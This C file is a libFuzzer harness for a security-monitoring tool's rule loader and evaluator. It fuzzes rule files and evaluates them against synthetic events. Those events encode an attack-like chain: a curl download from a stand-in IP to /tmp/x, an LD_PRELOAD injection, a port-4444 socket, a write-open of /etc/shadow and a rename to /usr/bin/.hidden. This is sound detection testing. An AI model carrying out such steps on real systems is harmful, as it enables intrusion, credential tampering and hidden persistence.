/* fuzz_rules.c — libFuzzer harness for the rule loader, parser and compiler: any bytes as a
 * rules file (vg_rules_load_text). When they load, events of several types go through the
 * compiled rules (every rule kind, stateful ones included) and the per-rule facts are read,
 * so the evaluator is fuzzed with trees the compiler accepted, and the kernel filter is
 * derived from them (src/rules/filter.c reads their regexes). Whatever the input, a load
 * must finish within the budgets of src/rules/internal.h: -timeout and -rss_limit_mb turn
 * a hang or a blow-up into a crash report. */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include "decode/decode.h"
#include "file_event.h"
#include "net_event.h"
#include "output/json.h"
#include "records.h"
#include "rules/rules.h"

#define NEVENTS 4

static struct vg_proctable *pt;
static struct fuzz_record recs[NEVENTS];
static struct vg_event evs[NEVENTS];
static volatile size_t sink; /* keeps the reads of alert strings */

static void decoded(int i)
{
	if (vg_decode(pt, &recs[i], recs[i].h.size, &evs[i]) != 0)
		abort(); /* the harness's own records must decode */
}

/* An sshd -> bash -> curl chain (exec records), then an open, a connect and a rename by
 * curl: what rules commonly look at. */
static void make_events(void)
{
	static const char argv[] = "curl\0-o\0/tmp/x\0http://198.51.100.7/a b\\c\xff";
	struct vg_exec *e;
	struct vg_file_open *o;
	struct vg_net *n;
	struct vg_file_pair *p;
	unsigned sshd = FUZZ_PID_BASE + 1, bash = FUZZ_PID_BASE + 2, curl = FUZZ_PID_BASE + 3;

	e = record_begin(&recs[0], VG_EV_EXEC, sizeof(*e), sshd, 1);
	record_str(&recs[0], &e->exe, "sshd/sbin/usr/", 14);
	record_str(&recs[0], &e->argv, "sshd\0-D", 8);
	decoded(0);
	e = record_begin(&recs[0], VG_EV_EXEC, sizeof(*e), bash, sshd);
	record_str(&recs[0], &e->exe, "bash/bin/usr/", 13);
	record_str(&recs[0], &e->argv, "-bash", 6);
	record_str(&recs[0], &e->tty, "pts0", 4);
	decoded(0);
	e = record_begin(&recs[0], VG_EV_EXEC, sizeof(*e), curl, bash);
	record_str(&recs[0], &e->exe, "curl/bin/usr/", 13);
	record_str(&recs[0], &e->argv, argv, sizeof(argv) - 1);
	record_str(&recs[0], &e->cwd, "tmp/", 4);
	record_str(&recs[0], &e->env, "LD_PRELOAD=/tmp/x.so", 21);
	e->fd[1].kind = VG_FD_SOCKET;
	e->fd[1].proto = 6;
	e->fd[1].remote = (struct vg_sockaddr){ 2, 4444, { 198, 51, 100, 7 } };
	e->fd[1].local = (struct vg_sockaddr){ 2, 40000, { 10, 0, 0, 2 } };
	decoded(0);
	o = record_begin(&recs[1], VG_EV_OPEN, sizeof(*o), curl, bash);
	record_str(&recs[1], &o->path, "shadow/etc/", 11);
	o->flags = 02101;
	decoded(1);
	n = record_begin(&recs[2], VG_EV_CONNECT, sizeof(*n), curl, bash);
	n->remote = (struct vg_sockaddr){ 10, 443, { 0x20, 0x01, 0x0d, 0xb8, [15] = 1 } };
	n->local = (struct vg_sockaddr){ 10, 50000, { [15] = 1 } };
	n->proto = 6;
	decoded(2);
	p = record_begin(&recs[3], VG_EV_RENAME, sizeof(*p), curl, bash);
	record_str(&recs[3], &p->from.name, "x", 1);
	record_str(&recs[3], &p->from.dir, "tmp/", 4);
	record_str(&recs[3], &p->to.name, "/usr/bin/.hidden", 16);
	decoded(3);
}

int LLVMFuzzerInitialize(int *argc, char ***argv)
{
	pt = vg_proctable_new(64);
	make_events();
	return 0;
}

/* Reads everything an alert hands out: its strings, and each evidence snapshot as JSON. */
static void on_alert(const struct vg_alert *a, void *ctx)
{
	static struct vg_buf json;
	size_t *bytes = ctx;

	*bytes += strlen(a->rule) + strlen(a->output);
	for (int i = 0; i < a->ntags; i++)
		*bytes += strlen(a->tags[i]);
	for (int i = 0; i < a->nevidence; i++) {
		vg_buf_reset(&json);
		vg_json_event(&json, a->evidence[i]);
		*bytes += json.len;
	}
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	char *text = malloc(size + 1);
	struct vg_rules_errors errs;
	struct vg_ruleset *rs;
	struct vg_rule_info ri;
	struct vg_kernel_filter kf;
	const char *exes[16];
	size_t bytes = 0;

	if (!text)
		return 0;
	memcpy(text, data, size);
	text[size] = 0;
	rs = vg_rules_load_text("fuzz.yaml", text, NULL, &errs);
	if ((rs == NULL) != (errs.n > 0))
		abort(); /* a failed load says why; a good one says nothing */
	vg_rules_errors_free(&errs);
	if (rs) {
		/* twice over, seconds apart: frequency and sequence state fills and fires */
		for (int round = 0; round < 2; round++)
			for (int i = 0; i < NEVENTS; i++) {
				evs[i].ts_ns = (uint64_t)(round * NEVENTS + i) * 1000000000ull;
				vg_rules_eval(rs, &evs[i], pt, on_alert, &bytes);
			}
		for (int i = 0; vg_rules_info(rs, i, &ri); i++)
			bytes += ri.matches;
		vg_rules_interest(rs);
		vg_rules_kill_exes(rs, exes, 16);
		vg_rules_kernel_filter(rs, &kf);
		for (int i = 0; i < kf.natoms; i++)
			bytes += strlen(kf.atoms[i].text);
		vg_kernel_filter_free(&kf);
		vg_ruleset_free(rs);
	}
	free(text);
	sink = bytes;
	return 0;
}
